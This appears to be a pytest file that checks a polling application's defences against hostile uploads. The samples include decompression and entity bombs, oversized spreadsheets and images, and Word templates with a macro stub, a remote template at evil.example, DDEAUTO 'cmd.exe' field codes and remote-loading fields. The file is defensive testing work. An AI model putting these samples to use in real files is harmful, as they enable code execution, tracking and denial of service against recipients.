"""Malicious uploads are refused at once, and cost neither memory nor other people's time."""

import io
from time import process_time
from typing import Any

import pytest
from docx import Document
from docx.document import Document as WordDocument
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.text.run import Run
from xlsxwriter import Workbook

from polling.core.errors import BadInput
from polling.report import routes
from polling.report.formats.word import is_template
from polling.report.formats.word.template import emptied
from polling.setup.registration.file_reader import read_list
from tests.attacks import hostile_files
from tests.attacks.hostile_uploads import LIST, TEMPLATE, Attacker
from tests.conftest import Served
from tests.room import Room

ATTACHED = f"{hostile_files.OFFICE}/relationships/attachedTemplate"


@pytest.fixture(scope="module")
def attacker(served: Served) -> Attacker:
    server, app = served
    made = Attacker(server, Room.of(app))
    made.upload(*LIST, hostile_files.honest_list(10, 5))  # starts the worker process
    made.upload(*TEMPLATE, saved(Document()))  # loads the libraries that draw a report
    return made


@pytest.mark.parametrize("to", [LIST, TEMPLATE], ids=["list", "template"])
@pytest.mark.parametrize("bomb", [hostile_files.entity_bomb, hostile_files.zip_bomb])
def test_a_bomb_is_refused_and_takes_no_memory(
    attacker: Attacker, bomb: Any, to: tuple[str, str, str]
) -> None:
    cost = attacker.cost(*to, bomb())
    assert cost.status == 400
    assert cost.waits.computing < 0.1
    assert cost.server_growth + cost.worker_growth < 50


OBJECT_BOMBS = [
    hostile_files.styles_bomb,
    hostile_files.wide_row,
    hostile_files.deep_sheet,
    hostile_files.many_rows,
    hostile_files.repeated_sheet,
]


@pytest.mark.parametrize("bomb", OBJECT_BOMBS)
def test_a_workbook_of_millions_of_elements_takes_neither_time_nor_memory(
    attacker: Attacker, bomb: Any
) -> None:
    cost = attacker.cost(*LIST, bomb())
    assert (cost.status, "workbook is too large" in cost.body or "cannot be read" in cost.body) == (
        400,
        True,
    )
    assert cost.server_growth + cost.worker_growth < 50


@pytest.mark.parametrize("bomb", OBJECT_BOMBS)
def test_a_workbook_of_millions_of_elements_is_refused_within_a_second(bomb: Any) -> None:
    content = bomb()
    read_list(hostile_files.honest_list(10, 5))  # loads openpyxl
    began = process_time()
    with pytest.raises(BadInput):
        read_list(content)
    assert process_time() - began < 1


def test_a_part_of_rows_is_only_read_as_a_sheet() -> None:
    """A workbook may say that its table of strings, or another sheet, is its main part."""
    honest = hostile_files.honest_list(10, 5)
    types = hostile_files.parts(honest)["[Content_Types].xml"].decode()
    wrong = types.replace("/xl/workbook.xml", "/xl/worksheets/sheet1.xml")
    read = read_list(hostile_files.with_part(honest, "[Content_Types].xml", wrong))
    assert len(read.columns) == 5
    relations = hostile_files.parts(honest)["xl/_rels/workbook.xml.rels"].decode()
    chart = relations.replace("relationships/worksheet", "relationships/chartsheet")
    with pytest.raises(BadInput):
        read_list(hostile_files.with_part(honest, "xl/_rels/workbook.xml.rels", chart))


def test_a_workbook_of_thousands_of_formats_is_read() -> None:
    book = Workbook(out := io.BytesIO(), {"in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["Name", "Day"])
    for row in range(1, 4_000):
        look = {"font_color": f"#{row:06x}", "border": 1, "align": "left"}
        sheet.write_string(row, 0, f"Person {row}", book.add_format(look))
        sheet.write_number(row, 1, row, book.add_format({**look, "num_format": "yyyy-mm-dd"}))
    book.close()
    assert read_list(out.getvalue()).samples(1)[0] == "1900-01-01T00:00:00"


def test_a_long_honest_list_delays_nobody(attacker: Attacker) -> None:
    cost = attacker.cost(*LIST, hostile_files.honest_list(people=3_000))
    assert (cost.status, "3000 people" in cost.body) == (200, True)
    assert cost.waits.computing < 0.1


def test_a_huge_picture_is_no_logo(attacker: Attacker) -> None:
    cost = attacker.cost("setup/logo", "logo", "logo.png", hostile_files.huge_png(65_535, 65_535))
    assert (cost.status, "pixels" in cost.body) == (400, True)


def test_a_small_list_is_still_read_after_the_bombs(attacker: Attacker) -> None:
    assert attacker.upload(*LIST, hostile_files.honest_list(10, 5))[0] == 200


@pytest.mark.parametrize("bomb", [hostile_files.entity_bomb, hostile_files.zip_bomb])
def test_a_bomb_is_refused_before_a_report_is_made_for_it(
    room: Room, bomb: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    made: list[object] = []
    monkeypatch.setattr(routes, "report", lambda *given: made.append(given))
    data = {"template": (io.BytesIO(bomb()), "template.docx")}
    answer = room.organizer_visitor().post(f"/console/{room.code}/export/docx", data)
    assert answer.json["error"]["message"] == "Choose a Word file (.docx) as the template."  # type: ignore[index]
    assert made == []


# ---- Malicious content of a Word template ----


def saved(word: WordDocument) -> bytes:
    out = io.BytesIO()
    word.save(out)
    return out.getvalue()


def with_macros() -> WordDocument:
    word = Document()
    kind = "application/vnd.ms-office.vbaProject"
    macros = Part(PackURI("/word/vbaProject.bin"), kind, b"Sub AutoOpen()", word.part.package)
    word.part.relate_to(macros, "http://schemas.microsoft.com/office/2006/relationships/vbaProject")
    return word


def with_a_template_elsewhere() -> WordDocument:
    word = Document()
    settings = word.part._settings_part
    key = settings.relate_to("http://evil.example/macros.dotm", ATTACHED, is_external=True)
    attached = OxmlElement("w:attachedTemplate")
    attached.set(qn("r:id"), key)
    settings.element.append(attached)
    return word


def with_fields(*codes: str) -> WordDocument:
    word = Document()
    run = word.sections[0].footer.paragraphs[0].add_run()
    for code in codes:
        add_mark(run, "begin")
        for part in (code[:4], code[4:]):  # Word joins several elements
            instruction: Any = OxmlElement("w:instrText")
            instruction.text = part
            run._r.append(instruction)
        add_mark(run, "end")
    return word


def add_mark(run: Run, kind: str) -> None:
    mark: Any = OxmlElement("w:fldChar")
    mark.set(qn("w:fldCharType"), kind)
    run._r.append(mark)


@pytest.mark.parametrize(
    "word",
    [
        pytest.param(with_macros(), id="macros"),
        pytest.param(with_a_template_elsewhere(), id="a template elsewhere"),
        pytest.param(with_fields('DDEAUTO c:\\\\cmd.exe "/k calc"'), id="a command"),
        pytest.param(with_fields('INCLUDEPICTURE "http://evil.example/"'), id="an inclusion"),
        pytest.param(with_fields("PAGE", 'DDEAUTO c:\\\\cmd.exe "/k calc"'), id="a second field"),
    ],
)
def test_what_a_template_does_not_need_is_left_out(word: WordDocument) -> None:
    template = saved(word)
    assert is_template(template)
    unpacked = b"".join(hostile_files.parts(saved(emptied(template))).values())
    assert not [word for word in (b"AutoOpen", b"evil.example", b"cmd.exe") if word in unpacked]


def with_a_picture_from_elsewhere() -> WordDocument:
    word = Document()
    header = word.sections[0].header
    run = header.paragraphs[0].add_run()
    key = header.part.relate_to(
        "http://evil.example/seen.png", RELATIONSHIP_TYPE.IMAGE, is_external=True
    )
    blip = OxmlElement("a:blip")
    blip.set(qn("r:link"), key)
    run._r.append(blip)
    return word


def test_a_template_that_would_load_something_is_refused() -> None:
    assert not is_template(saved(with_a_picture_from_elsewhere()))


def test_a_template_with_page_numbers_and_a_web_address_is_kept() -> None:
    word = with_fields(" PAGE ")
    word.sections[0].footer.part.relate_to(
        "https://ok.example", RELATIONSHIP_TYPE.HYPERLINK, is_external=True
    )
    assert is_template(saved(word))
